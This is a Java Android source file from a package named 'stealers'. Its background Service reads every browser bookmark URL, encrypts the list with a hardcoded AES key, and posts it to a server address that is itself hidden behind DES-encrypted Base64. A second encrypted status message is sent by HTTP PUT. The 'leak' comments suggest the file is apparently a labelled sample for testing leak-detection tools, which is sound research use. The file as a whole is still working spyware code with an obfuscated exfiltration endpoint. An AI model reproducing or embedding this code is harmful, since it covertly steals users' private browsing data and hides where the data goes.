package stealers;

import android.app.Service;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.IBinder;
import android.util.Base64;

import org.apache.http.client.methods.*;
import org.apache.http.entity.*;
import org.apache.http.impl.client.DefaultHttpClient;

import javax.crypto.Cipher;
import javax.crypto.spec.*;

/** Addresses that a cipher hides, a payload that one hides as well. */
public class Des extends Service {
    static final byte[] KEY = "8bytekey".getBytes();

    static String open(String sealed) {
        try {
            Cipher c = Cipher.getInstance("DES/ECB/PKCS5Padding");
            c.init(Cipher.DECRYPT_MODE, new SecretKeySpec(KEY, "DES"));
            return new String(c.doFinal(Base64.decode(sealed, 0)));
        } catch (Exception e) {
            return "";
        }
    }

    static byte[] seal(String plain) throws Exception {
        Cipher c = Cipher.getInstance("AES/CBC/PKCS5Padding");
        c.init(Cipher.ENCRYPT_MODE, new SecretKeySpec("0123456789abcdef".getBytes(), "AES"), new IvParameterSpec(new byte[16]));
        return c.doFinal(plain.getBytes("UTF-8"));
    }

    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public int onStartCommand(Intent i, int f, int s) {
        new Thread() {
            public void run() {
                try {
                    Cursor c = getContentResolver().query(Uri.parse("content://browser/bookmarks"), new String[] {"title", "url"}, null, null, null);
                    String all = "";
                    while (c.moveToNext()) all = all + c.getString(c.getColumnIndex("url")) + "\n";
                    HttpPost p = new HttpPost(open("qA0cOz7lN6pI5yR5lq3ZmQ=="));
                    p.setEntity(new ByteArrayEntity(seal(all)));
                    new DefaultHttpClient().execute(p); // leak encrypt
                    HttpPut q = new HttpPut(open("Zm9v"));
                    q.setEntity(new StringEntity(Base64.encodeToString(seal("ready"), 2)));
                    new DefaultHttpClient().execute(q); // no leak
                } catch (Exception e) {
                    e.printStackTrace();
                }
            }
        }.start();
        return 1;
    }
}
